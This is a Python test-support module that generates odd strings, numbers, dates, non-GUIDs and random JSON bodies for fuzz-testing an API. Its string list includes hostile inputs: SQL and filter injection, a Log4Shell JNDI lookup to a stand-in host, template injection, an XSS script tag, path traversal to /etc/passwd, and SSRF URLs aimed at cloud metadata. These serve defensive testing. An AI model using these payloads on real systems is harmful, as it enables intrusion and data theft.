"""Odd values: texts, numbers, ids and dates that programs seldom expect, and JSON of a type that is made of them."""

import random
from typing import Any, Final

import msgspec
from msgspec import inspect

from tests.support.builders import person

#: Texts that JSON and UTF-8 can hold.
TEXTS: Final = (
    "",
    " ",
    "x",
    "\u202eexample",
    "a\u200bdmin",
    "a\u0430\u0435min",
    "\ufeff",
    "\x00",
    "a\x00b",
    "\x1b[31m",
    "\x7f",
    "\x85",
    "\u2028",
    "\U0001f600" * 20,
    "e" + "\u0301" * 300,
    "\ufdfa" * 80,
    "\uff1d1+1",
    "=1+1",
    "@SUM(A1)",
    "' or 1 eq 1 or '",
    "'; DROP TABLE Recipients; --",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "<script>alert(1)</script>",
    "../../../etc/passwd",
    "..\\..\\",
    "%2e%2e%2f",
    "%00",
    "a/b#c?d",
    "\\u0000",
    "null",
    "undefined",
    "NaN",
    "-0",
    "1e309",
    "true",
    "[]",
    "contoso",
    "fabrikam",
    "common",
    person(1),
    person(1).upper(),
    "{" + person(1) + "}",
    "x" * 201,
    "x" * 5_000,
    "\n".join(["x"] * 50),
    "٣",
    "ﬁ",
    "İ",
    "ß",
    "https://169.254.169.254/metadata",
    "https://[::ffff:169.254.169.254]",
    "http://login.microsoftonline.com",
    "mailto:a@example.com",
    "a@b@example.com",
    "x@" + "a." * 120 + "example",
)
NUMBERS: Final = (0, 1, -1, 2, 99, 100, 101, 10**6, 2**31, -(2**31), 2**53 + 1, 2**63 - 1, -(2**63), 2**64 - 1)
FLOATS: Final = (0.0, -0.0, 0.5, 1.0, -1.0, 1e-300, 1e300, 1e-9, 7.0)
DATES: Final = (
    "0001-01-01T00:00:00Z",
    "9999-12-31T23:59:59.999999Z",
    "1970-01-01T00:00:00Z",
    "2026-02-28T23:59:59+14:00",
    "2026-12-31T23:59:59-12:00",
    "0001-01-01T00:00:00+14:00",
)
#: Texts that are not GUIDs, and not nearly one that is cleaned.
NOT_GUIDS: Final = (
    "x",
    "0",
    "common",
    "contoso.onmicrosoft.com",
    person(1)[:-1],
    person(1) + "0",
    person(1).replace("-", ""),
    person(1).replace("0", "g"),
    person(1).replace("0", "\uff10"),
    person(1).replace("-", "\u2010"),
    person(1).replace("0", "O", 1),
    "\u200b" + person(1),
    person(1) + "\x00",
    "../" + person(1),
    person(1) + "' or 1 eq 1",
    "x" * 5_000,
)


def text(chance: random.Random) -> str:
    """Return an odd text."""
    chosen = chance.choice(TEXTS)
    return chosen if chance.random() < 0.7 else chosen + chance.choice(TEXTS)


def value(kind: inspect.Type, chance: random.Random) -> Any:  # noqa: ANN401, C901, PLR0911, PLR0912 - one line per type
    """Return JSON of a type, of odd values as far as the type allows."""
    match kind:
        case inspect.Metadata():
            return value(kind.type, chance)
        case inspect.NoneType():
            return None
        case inspect.BoolType():
            return chance.random() < 0.5
        case inspect.IntType():
            return chance.choice(NUMBERS)
        case inspect.FloatType():
            return chance.choice(FLOATS)
        case inspect.StrType():
            return text(chance)
        case inspect.DateTimeType():
            return chance.choice(DATES)
        case inspect.EnumType():
            return chance.choice([member.value for member in kind.cls])
        case inspect.LiteralType():
            return chance.choice(kind.values)
        case inspect.UnionType():
            return value(chance.choice(kind.types), chance)
        case inspect.DictType():
            return {text(chance): value(kind.value_type, chance) for _ in range(chance.randrange(4))}
        case inspect.VarTupleType() | inspect.ListType() | inspect.SetType() | inspect.FrozenSetType():
            items = [value(kind.item_type, chance) for _ in range(chance.randrange(4))]
            return items * chance.choice((1, 1, 2))
        case inspect.StructType():
            return {
                field.encode_name: value(field.type, chance)
                for field in kind.fields
                if field.required or chance.random() < 0.5
            }
    return text(chance)


def body(kind: Any, chance: random.Random) -> bytes:  # noqa: ANN401 - a type of msgspec
    """Return JSON of a type; nothing without a type."""
    if kind is None:
        return b""
    return msgspec.json.encode(value(inspect.type_info(kind), chance))
